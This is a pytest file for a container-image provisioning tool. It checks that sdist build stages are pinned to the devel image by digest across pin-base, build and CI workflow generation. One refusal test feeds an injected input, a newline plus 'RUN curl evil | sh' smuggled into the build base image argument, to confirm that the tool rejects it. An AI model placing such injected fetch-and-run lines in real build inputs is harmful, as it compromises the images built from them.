"""The sdist build stage built by digest (issue 24 item 3): an image whose stack builds sdists starts a
build stage FROM the plan's devel image while its own base may be a runtime image (TensorRT's meta
sdists, an inference image). pin-base pins that devel tag with the variant's base, build and ci build
the stage FROM its digest, and a base-digest file without it is refused (exit 2) before any work.
--base-image alone keeps replacing both FROMs (the docker suite builds on its local base that way).

Plans come from the fixture catalogue (tests/fixtures/compat: TensorRT 10.6.0, whose meta sdist is
built from source, and DeepSpeed, whose plan's base is devel already) through the CLI, and from the
live one through the resolver; locks are committed ones that agree with the plan (stack_locks.py)."""

import json
from pathlib import Path
from unittest import mock

import pytest
import yaml
from stack_locks import agreeing_stack_lock

from provision.errors import InputError
from provision.images import pin
from provision.images.build import BuildResult
from provision.images.render import image_tags, render_image
from provision.plan.model import PlanRequest, read_plan
from provision.plan.resolve import resolve

DIGEST = "sha256:" + "1" * 64
DEVEL_DIGEST = "sha256:" + "2" * 64


def entry(tag: str, digest: str) -> dict:
    return {
        "ref": f"{tag}@{digest}",
        "digest": digest,
        "media_type": "application/vnd.oci.image.index.v1+json",
        "platforms": ["linux/amd64"],
        "resolved_at": "2026-11-30T00:00:00Z",
    }


def write_digests(path: Path, *pins: tuple[str, str]) -> Path:
    path.write_text(json.dumps({"schema": 1, "images": {tag: entry(tag, digest) for tag, digest in pins}}))
    return path


@pytest.fixture
def trt_plan(cli, on_fixture_catalogue, tmp_path):
    """--framework tensorrt on the fixture catalogue: its base is not devel, its meta sdist is built."""
    path = tmp_path / "trt.lock.json"
    r = cli("plan", "--os", "ubuntu22.04", "--gpu", "h100-sxm", "--framework", "tensorrt", "--lock", str(path))
    assert r.code == 0, r
    plan = read_plan(str(path))
    assert plan.base_image != plan.images["devel"], "a plan whose image and build stage start from two tags"
    return path, plan


def test_build_base_tag_is_the_devel_tag_of_a_variant_that_builds_sdists(trt_plan, real_matrix):
    _, plan = trt_plan
    assert pin.build_base_tag(plan, "tensorrt") == plan.images["devel"]
    assert pin.base_tag(plan, "tensorrt") == plan.base_image
    assert pin.variant_tags(plan, "tensorrt") == [plan.base_image, plan.images["devel"]]
    assert pin.build_base_tag(plan, "base") is None, "base and devel images install no stack"
    ds = resolve(real_matrix, PlanRequest(os="ubuntu22.04", gpu="h100-sxm", framework="pytorch", with_=("deepspeed",)))
    assert pin.build_base_tag(ds, "pytorch") == pin.base_tag(ds, "pytorch") == ds.images["devel"]
    assert pin.variant_tags(ds, "pytorch") == [ds.images["devel"]], "one tag: the image's own base is devel"
    ort = resolve(real_matrix, PlanRequest(os="ubuntu22.04", gpu="l4", framework="onnxruntime"))
    assert pin.build_base_tag(ort, "onnxruntime") is None, "wheels only: no build stage"


def test_the_build_stage_takes_its_own_base(trt_plan, tmp_path):
    _, plan = trt_plan
    head = plan.stack[0]
    lock = agreeing_stack_lock(plan, plan.stack, tmp_path)
    devel = f"{plan.images['devel']}@{DEVEL_DIGEST}"
    base = f"{plan.base_image}@{DIGEST}"
    r = render_image(plan, "tensorrt", lock_file=lock, base_image=base, build_base_image=devel)
    assert (r.from_ref, r.build_from) == (base, devel)
    assert f"FROM {devel} AS build\n" in r.dockerfile
    assert f"\nFROM {base}\n" in r.dockerfile
    # --base-image alone replaces both FROMs (a local base with what both stages need)
    local = "registry.local:5000/stand-in/cuda:dev"
    r = render_image(plan, "tensorrt", lock_file=lock, base_image=local)
    assert (r.from_ref, r.build_from) == (local, local)
    # the plan's own tags when nothing is given
    r = render_image(plan, "tensorrt", lock_file=lock)
    assert (r.from_ref, r.build_from) == (plan.base_image, plan.images["devel"])
    assert any(n == head.pip or n.startswith(head.pip) for n, _ in head.distributions)


def test_a_build_base_for_an_image_without_a_build_stage_is_refused(trt_plan, tmp_path):
    _, plan = trt_plan
    with pytest.raises(InputError, match="builds no sdists, so it has no build stage") as info:
        render_image(plan, "base", build_base_image=f"{plan.images['devel']}@{DEVEL_DIGEST}")
    assert info.value.exit_code == 2
    with pytest.raises(InputError, match="--build-base-image"):
        render_image(plan, "tensorrt", build_base_image="nvidia/cuda:x\nRUN curl evil | sh")


def test_pin_base_for_a_variant_pins_its_build_stage_too(cli, monkeypatch, trt_plan, tmp_path):
    path, plan = trt_plan
    tags = [plan.base_image, plan.images["devel"]]
    api = mock.Mock(spec=["inspect_distribution", "ping"])
    answers = {tags[0]: DIGEST, tags[1]: DEVEL_DIGEST}
    api.inspect_distribution.side_effect = lambda ref: {
        "Descriptor": {"mediaType": "application/vnd.oci.image.index.v1+json", "digest": answers[ref]},
        "Platforms": [{"os": "linux", "architecture": "amd64"}],
    }
    monkeypatch.setattr("provision.images.build.client", lambda docker_client=None: api)
    out = tmp_path / "base-digests.json"
    r = cli("pin-base", "--plan", str(path), "--variant", "tensorrt", "--out", str(out))
    assert r.code == 0, r
    assert [c.args[0] for c in api.inspect_distribution.call_args_list] == tags
    assert r.out.splitlines() == [f"{tags[0]}  {DIGEST}", f"{tags[1]}  {DEVEL_DIGEST}"]
    assert sorted(pin.read_pins(str(out))) == sorted(tags)


def fake_engine(monkeypatch, seen: dict):
    """build's engine calls, recorded: what was pulled, and the Dockerfile the engine was handed."""
    from provision.images import build

    def build_image(context, **kwargs):
        seen["dockerfile"] = Path(context, "Dockerfile").read_text()
        return BuildResult("sha256:" + "3" * 64, tuple(kwargs["tags"]), (), ())

    monkeypatch.setattr(build, "client", lambda docker_client=None: mock.Mock())
    monkeypatch.setattr(build, "pull_base", lambda ref, **kw: seen.setdefault("pulled", []).append(ref))
    monkeypatch.setattr(build, "build_image", build_image)
    monkeypatch.setattr(build, "base_digest", lambda ref, **kw: ref.rpartition("@")[2] if "@" in ref else None)


def test_build_from_base_digests_pins_and_pulls_the_build_stage_base(cli, monkeypatch, trt_plan, tmp_path):
    path, plan = trt_plan
    lock = agreeing_stack_lock(plan, plan.stack, tmp_path)
    seen: dict = {}
    fake_engine(monkeypatch, seen)
    digests = write_digests(tmp_path / "bases.json", (plan.base_image, DIGEST))
    args = ["build", "--plan", str(path), "--lock-file", lock, "--base-digests", str(digests)]  # its variant: tensorrt
    r = cli(*args, "--image-lock", str(tmp_path / "image.lock.json"))
    assert r.code == 2, r
    assert f"has no digest for {plan.images['devel']} (the sdist build stage's base)" in r.err
    assert "pins a variant's build stage base too" in r.err
    assert seen == {}, "refused before the engine is asked"
    assert not (tmp_path / "image.lock.json").exists()
    write_digests(digests, (plan.base_image, DIGEST), (plan.images["devel"], DEVEL_DIGEST))
    r = cli(*args, "--image-lock", str(tmp_path / "image.lock.json"))
    assert r.code == 0, r
    devel, base = f"{plan.images['devel']}@{DEVEL_DIGEST}", f"{plan.base_image}@{DIGEST}"
    assert f"FROM {devel} AS build\n" in seen["dockerfile"]
    assert f"\nFROM {base}\n" in seen["dockerfile"]
    assert seen["pulled"] == [devel, base], "both bases pulled by digest before the build"
    doc = json.loads((tmp_path / "image.lock.json").read_text())
    assert (doc["base_image"], doc["base_digest"]) == (base, DIGEST)
    assert doc["build_base"] == {"image": devel, "digest": DEVEL_DIGEST}, "the build stage's base, by digest"
    check_lock_schema(tmp_path / "image.lock.json")


def check_lock_schema(path: Path) -> None:
    import jsonschema

    schema = Path(__file__).resolve().parents[2] / "provision" / "images" / "schema" / "image-lock.schema.json"
    jsonschema.Draft202012Validator(json.loads(schema.read_text())).validate(json.loads(path.read_text()))


def test_build_without_a_build_stage_records_no_build_base(cli, monkeypatch, tmp_path, on_fixture_catalogue):
    path = tmp_path / "plan.lock.json"
    assert cli("plan", "--os", "ubuntu22.04", "--gpu", "h100-sxm", "--lock", str(path)).code == 0
    seen: dict = {}
    fake_engine(monkeypatch, seen)
    r = cli("build", "--plan", str(path), "--image-lock", str(tmp_path / "image.lock.json"))
    assert r.code == 0, r
    doc = json.loads((tmp_path / "image.lock.json").read_text())
    assert " AS build" not in seen["dockerfile"]
    assert doc["build_base"] is None
    check_lock_schema(tmp_path / "image.lock.json")


@pytest.mark.usefixtures("on_tool_index", "on_ci_catalogue")
def test_ci_builds_the_stage_from_its_digest_and_locks_the_image(cli, tmp_path, monkeypatch):
    """The workflow hands each job its build stage's base by digest; the job's render (by hand here)
    gives the content it was generated for, and the image lock names the image's base, not the stage's."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / ".github" / "workflows").mkdir(parents=True)
    (tmp_path / "plans").mkdir()
    args = ["--os", "ubuntu22.04", "--gpu", "h100-sxm", "--framework", "tensorrt"]
    assert cli("plan", *args, "--lock", "plans/trt.lock.json").code == 0
    plan = read_plan("plans/trt.lock.json")
    (tmp_path / "image-locks").mkdir()
    readable = image_tags(plan, "tensorrt", {})[0]
    committed = Path(agreeing_stack_lock(plan, plan.stack, tmp_path))
    committed.rename(tmp_path / "image-locks" / f"{readable}.requirements.lock")
    write_digests(tmp_path / "bases.json", (plan.base_image, DIGEST))
    out = ".github/workflows/images.yml"
    r = cli("ci", "github", "--plan", "plans/trt.lock.json", "--base-digests", "bases.json", "--out", out)
    assert r.code == 2, r
    assert f"has no digest for {plan.images['devel']} (the sdist build stage's base)" in r.err
    assert not (tmp_path / out).exists()
    write_digests(tmp_path / "bases.json", (plan.base_image, DIGEST), (plan.images["devel"], DEVEL_DIGEST))
    r = cli("ci", "github", "--plan", "plans/trt.lock.json", "--base-digests", "bases.json", "--out", out)
    assert r.code == 0, r
    doc = yaml.safe_load((tmp_path / out).read_text())
    (job,) = doc["jobs"]["build"]["strategy"]["matrix"]["include"]
    assert job["base"] == f"{plan.base_image}@{DIGEST}"
    assert job["build_base"] == f"{plan.images['devel']}@{DEVEL_DIGEST}"
    step = next(s for s in doc["jobs"]["build"]["steps"] if s["name"].startswith("Render the build context"))
    assert step["env"]["BUILD_BASE"] == "${{ matrix.build_base }}"
    assert '${BUILD_BASE:+--build-base-image "$BUILD_BASE"}' in step["run"]
    render = ["render", "--plan", job["plan"], "--variant", job["variant"], "--lock-file", job["lock"]]
    r = cli(*render, "--base-image", job["base"], "--build-base-image", job["build_base"], "--out", "ctx")
    assert r.code == 0, r
    assert f"FROM {job['build_base']} AS build\n" in (tmp_path / "ctx" / "Dockerfile").read_text()
    assert cli("ci", "context-digest", "ctx", "--expect", job["content"]).code == 0
    tags = ["--tags", job["tags"], "--image-id", "sha256:" + "4" * 64, "--digest", "sha256:" + "5" * 64]
    lock = ["ci", "image-lock", "--context", "ctx", "--plans", job["plans"], "--variant", job["variant"]]
    r = cli(*lock, "--repo", "ghcr.io/acme/gpu", *tags, "--pushed", "false", "--out", "image.lock.json")
    assert r.code == 0, r
    doc = json.loads((tmp_path / "image.lock.json").read_text())
    assert doc["base_image"] == job["base"]
    assert doc["build_base"] == {"image": job["build_base"], "digest": DEVEL_DIGEST}
    check_lock_schema(tmp_path / "image.lock.json")
    # the GitLab pipeline hands its jobs the same variable
    r = cli("ci", "gitlab", "--plan", "plans/trt.lock.json", "--base-digests", "bases.json", "--out", ".gitlab-ci.yml")
    assert r.code == 0, r
    gitlab = yaml.safe_load((tmp_path / ".gitlab-ci.yml").read_text())
    render_job = next(v for k, v in gitlab.items() if k.startswith("render:"))
    assert render_job["variables"]["BUILD_BASE"] == job["build_base"]
